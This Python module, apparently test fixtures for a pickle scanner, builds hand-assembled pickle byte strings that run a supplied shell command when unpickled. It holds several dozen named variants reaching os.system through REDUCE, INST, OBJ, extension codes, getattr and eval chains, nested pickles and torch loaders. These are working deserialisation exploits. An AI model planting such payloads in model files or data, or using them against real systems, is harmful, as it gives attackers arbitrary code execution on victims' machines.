"""Pickles that run a command when they are unpickled: each leaves one thing on the stack and ends without STOP."""

import struct


def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def data(raw):
    return b"B" + struct.pack("<I", len(raw)) + raw


def live(command):
    """Payloads by name that do run `command` in an ordinary unpickler (extension code 240 stands for os.system)."""
    arg = text(command)
    system = b"cos\nsystem\n"
    namespace = b"ctypes\nSimpleNamespace\n)R"
    reduce = system + arg + b"\x85R"
    return {
        "REDUCE": reduce,
        "REDUCE of a stack global": text("os") + text("system") + b"\x93" + arg + b"\x85R",
        "a dotted name": b"\x80\x04" + text("shutil") + text("os.system") + b"\x93" + arg + b"\x85R",
        "INST": b"(" + arg + b"ios\nsystem\n",
        "OBJ": b"(" + system + arg + b"o",
        "EXT1": b"\x82\xf0" + arg + b"\x85R",
        "EXT2": b"\x83\xf0\x00" + arg + b"\x85R",
        "EXT4": b"\x84\xf0\x00\x00\x00" + arg + b"\x85R",
        "BUILD with __setstate__": namespace + b"}" + text("__setstate__") + system + b"sb" + arg + b"b",
        "APPEND to an append of its own": namespace + b"}" + text("append") + system + b"sb" + arg + b"a",
        "a getattr chain": b"cbuiltins\ngetattr\ncbuiltins\n__import__\n"
        + text("os")
        + b"\x85R"
        + text("system")
        + b"\x86R"
        + arg
        + b"\x85R",
        "eval": b"cbuiltins\neval\n" + text(f"__import__('os').system({command!r})") + b"\x85R",
        "map in a tuple": b"cbuiltins\ntuple\ncbuiltins\nmap\n" + system + arg + b"\x85\x86R\x85R",
        "a pickle in a pickle": b"c_pickle\nloads\n" + data(reduce + b".") + b"\x85R",
        "an old spelling of builtins": b"c__builtin__\nexec\n" + text(f"import os; os.system({command!r})") + b"\x85R",
    }


def inert(command):
    """Payloads that need more than this process has to run, and must be as harmless."""
    arg = text(command)
    reduce = b"cos\nsystem\n" + arg + b"\x85R"
    return {
        "NEWOBJ": b"cposix\nsystem\n" + arg + b"\x85\x81",
        "NEWOBJ_EX": b"csubprocess\nPopen\n" + arg + b"\x85}" + text("shell") + b"\x88s\x92",
        "torch.load of bytes": b"ctorch.storage\n_load_from_bytes\n" + data(reduce + b".") + b"\x85R",
        "torch.load": b"ctorch\nload\n" + arg + b"\x85R",
        "a tensor of a call": b"ctorch._utils\n_rebuild_tensor_v2\n(" + reduce + b"K\x00))\x89NtR",
        "a parameter of a call": b"ctorch._utils\n_rebuild_parameter\n(" + reduce + b"\x88NtR",
        "hooks of a tensor": b"ctorch._utils\n_rebuild_parameter_with_state\n(" + reduce + b"\x88NNtR",
        "a default factory": b"ccollections\ndefaultdict\ncos\nsystem\n\x85R" + arg + b"Ns",
        "an entry of the environment": b"cos\nenviron\n" + text("UDDM_CANARY") + text("1") + b"s",
        "keys that call": b"}" + reduce + b"Ns",
        "a keyword call": b"cbuiltins\ndict\n)}" + text("a") + reduce + b"s\x92",
    }
